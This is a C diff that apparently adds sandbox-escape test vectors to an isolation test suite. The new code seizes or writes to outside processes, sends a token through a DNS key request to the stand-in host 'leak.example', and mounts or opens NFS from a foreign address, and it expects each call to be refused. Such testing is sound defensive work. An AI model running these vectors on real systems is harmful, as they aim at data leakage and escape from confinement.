@@ -255,6 +255,46 @@ static int pidfd_getfd_leak(char **args)
     return deliver(fd);
 }
 
+/* args: a process outside the tree. Others may be tracing it at this moment. */
+static int ptrace_outside(char **args)
+{
+    for (int i = 0; i < 100; i++) {
+        if (ptrace(PTRACE_SEIZE, atoi(args[0]), 0, 0) == 0)
+            return 0;
+        if (errno != EPERM)
+            break;
+        sleep_ms(10);
+    }
+    return refused("PTRACE_SEIZE");
+}
+
+/* The same; nothing is written. */
+static int write_outside(char **args)
+{
+    char byte;
+    struct iovec none = {&byte, 0};
+    return syscall(SYS_process_vm_writev, atoi(args[0]), &none, 1, &none, 1, 0) < 0 ? refused("process_vm_writev") : 0;
+}
+
+/* The kernel is asked to resolve a name; it has nobody here who could. */
+static int ask_key(char **args)
+{
+    (void)args;
+    return syscall(SYS_request_key, "dns_resolver", "a:leak.example", TOKEN, 0) < 0 ? refused("request_key") : 1;
+}
+
+static int mount_network(char **args)
+{
+    (void)args;
+    return syscall(SYS_mount, FOREIGN4 ":/", "/proc", "nfs", 0, NULL) < 0 ? refused("mount") : 1;
+}
+
+static int open_network(char **args)
+{
+    (void)args;
+    return syscall(430 /* fsopen */, "nfs4", 0) < 0 ? refused("fsopen") : 1;
+}
+
 #ifdef __x86_64__
 /* A tracer within the tree turns its child's getppid into connect. */
 static int ptrace_inject(char **args)
@@ -316,6 +356,11 @@ const struct vector process_vectors[] = {
     {"inherited-send", inherited_send},
     {"inherited-connect", inherited_connect},
     {"pidfd-getfd", pidfd_getfd_leak},
+    {"ptrace-outside", ptrace_outside},
+    {"write-outside", write_outside},
+    {"request-key", ask_key},
+    {"mount-network", mount_network},
+    {"fsopen-network", open_network},
 #ifdef __x86_64__
     {"ptrace-inject", ptrace_inject},
 #endif
